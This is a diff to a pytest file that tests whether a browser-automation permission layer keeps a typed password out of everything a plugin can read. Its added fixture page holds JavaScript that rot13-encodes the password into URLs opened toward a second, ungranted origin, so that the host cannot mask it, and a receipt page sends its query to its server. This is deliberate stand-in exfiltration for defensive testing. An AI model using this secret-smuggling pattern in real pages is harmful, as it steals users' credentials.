@@ -20,7 +20,7 @@ from collections.abc import Iterator
 import anyio
 import pytest
 
-from browser_helpers import CHROMIUM, ok, ref_of
+from browser_helpers import CHROMIUM, denied_lines, ok, ref_of
 from conftest import text_of
 from secret_site import SECRET, STYLE, SecretSite, carries_secret, start_secret_site
 from test_browser_secret_doors import images_of, ocr
@@ -40,16 +40,23 @@ SIGN_IN = """<!doctype html><html><head><meta charset=utf-8>
     <div role="button" tabindex="0" class="btn" id="go">Continue to the board</div>
     <div role="button" tabindex="0" class="link" id="pop">Open the board in a new window</div>
     <div role="button" tabindex="0" class="link" id="ref">Continue by link</div>
+    <div role="button" tabindex="0" class="link" id="receipt">Open the receipt</div>
+    <div role="button" tabindex="0" class="link" id="share">Share the receipt</div>
   </div>
 </div></div>
 <script>
 const BOARD = "__BOARD__";
+const ELSEWHERE = "__ELSEWHERE__";
 const pw = () => document.getElementById('pw').value;
 const reversed = () => pw().split('').reverse().join('');
-// What the page hands over: the secret reversed and base64-encoded.
+// What the page hands over: the secret reversed and base64-encoded; rot13'd (no form the
+// host knows to mask) for the windows it opens.
 const carried = () => reversed() + ' ' + btoa(pw());
+const rot13 = (s) => s.replace(/[A-Za-z]/g, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
 document.getElementById('go').onclick = () => { window.name = carried(); location.href = BOARD + '/board'; };
 document.getElementById('pop').onclick = () => { window.open(BOARD + '/board?popup=1', carried()); };
+document.getElementById('receipt').onclick = () => { window.open(BOARD + '/receipt?k=' + rot13(pw())); };
+document.getElementById('share').onclick = () => { window.open(ELSEWHERE + '/share?k=' + rot13(pw())); };
 document.getElementById('ref').onclick = () => {
   const policy = document.createElement('meta');
   policy.name = 'referrer';
@@ -80,6 +87,17 @@ fetch('/api/handed', { method: 'POST', body: JSON.stringify({ name: got, referre
 </script></body></html>"""
 
 
+# A page without a title of its own (the browser titles it after its URL) that logs its
+# query and sends it to its server.
+RECEIPT = """<!doctype html><html><head><meta charset=utf-8></head><body>
+<div class="card"><div class="row">Receipt</div><div class="row" id="n"></div></div>
+<script>
+console.log('receipt for ' + location.search);
+fetch('/api/receipt' + location.search);
+document.getElementById('n').textContent = 'Order 1042';
+</script></body></html>"""
+
+
 def carries(text: str) -> list[str]:
     """The parts of the secret in `text`, as is, reversed, rot13'd, or base64-encoded (any
     run of base64 characters, decoded)."""
@@ -105,20 +123,28 @@ def test_the_checker_sees_each_form() -> None:
 
 @pytest.fixture()
 def board() -> Iterator[SecretSite]:
-    site = start_secret_site({"/board": BOARD})
+    site = start_secret_site({"/board": BOARD, "/receipt": RECEIPT})
     yield site
     site.close()
 
 
 @pytest.fixture()
-def sign_in(board: SecretSite) -> Iterator[SecretSite]:
-    site = start_secret_site({"/login": SIGN_IN.replace("__BOARD__", board.origin)})
+def elsewhere() -> Iterator[SecretSite]:
+    """An origin nothing grants."""
+    site = start_secret_site({})
     yield site
     site.close()
 
 
-def manifest(write_manifest, sign_in: SecretSite, board: SecretSite):
-    return write_manifest(f"""
+@pytest.fixture()
+def sign_in(board: SecretSite, elsewhere: SecretSite) -> Iterator[SecretSite]:
+    site = start_secret_site({"/login": SIGN_IN.replace("__BOARD__", board.origin).replace("__ELSEWHERE__", elsewhere.origin)})
+    yield site
+    site.close()
+
+
+def manifest(write_manifest, sign_in: SecretSite, board: SecretSite, audit: str = ""):
+    return write_manifest(f"""{audit}
 [browser]
 executable = "{CHROMIUM}"
 
@@ -217,3 +243,38 @@ async def test_a_referrer_that_carries_a_secret_passes_the_hold_on(start_warden,
         assert is_error and "holds a secret" in text and not images, (tool, text)
     denied = [line for line in m.audit_lines() if line["event"] == "capability_denied" and "holds a secret" in line.get("reason", "")]
     assert {line["capability"] for line in denied} >= {"browser.extract", "browser.screenshot", "browser.wait_for"}, denied
+
+
+async def test_a_held_window_withholds_its_query_from_every_field(start_warden, write_manifest, sign_in, board, elsewhere, tmp_path):
+    """The holding page opens windows whose URL carries the secret rot13'd (a form the host
+    cannot mask): one on a granted origin without a title of its own (the browser titles it
+    after its whole URL), one on an origin nothing grants (refused). The hold withholds the
+    query; nothing else the plugin gets of either window (the tab list's titles and URLs, the
+    click's answer, the refusal, the window's snapshot, console and network log) nor the
+    session's recording brings it back."""
+    rec = tmp_path / "rec"
+    m = manifest(write_manifest, sign_in, board, f'[audit]\nrecord = ["browser"]\ndir = "{rec}"\n')
+    async with start_warden(m, env=ENV) as w:
+        snap = await fill_secret(w, sign_in)
+        read = {"open": text_of(await w.call("browse_click", {"ref": ref_of(snap, "button", "Open the receipt")}))}
+        with anyio.fail_after(15):
+            while not board.got("/api/receipt"):
+                await anyio.sleep(0.05)
+        read["share"] = text_of(await w.call("browse_click", {"ref": ref_of(snap, "button", "Share the receipt")}))
+        read["tabs"] = await ok(w, "browse_tabs", {})
+        await ok(w, "browse_tabs", {"action": "switch", "tab": 2})
+        read["snapshot"] = text_of(await w.call("browse_snapshot", {"mode": "full"}))
+        read["console"] = text_of(await w.call("browse_console", {}))
+        read["network"] = text_of(await w.call("browse_network", {}))
+        denied = await denied_lines(m, elsewhere.origin)
+    # The test is not blind: the window's URL did carry it to its server, rot13'd.
+    [receipt] = board.got("/api/receipt")
+    assert carries(receipt.path), receipt
+    assert "blocked" in read["share"] and elsewhere.origin in read["share"], read["share"]
+    assert "/receipt" in read["tabs"], read["tabs"]
+    assert elsewhere.received == [], elsewhere.received
+    assert denied, m.audit_lines()[-3:]
+    for path in rec.glob("*/*.jsonl"):
+        read[f"recording {path.name}"] = path.read_text()
+    leaks = {name: text for name, text in read.items() if carries(text)}
+    assert not leaks, f"these carry the secret: {leaks}"
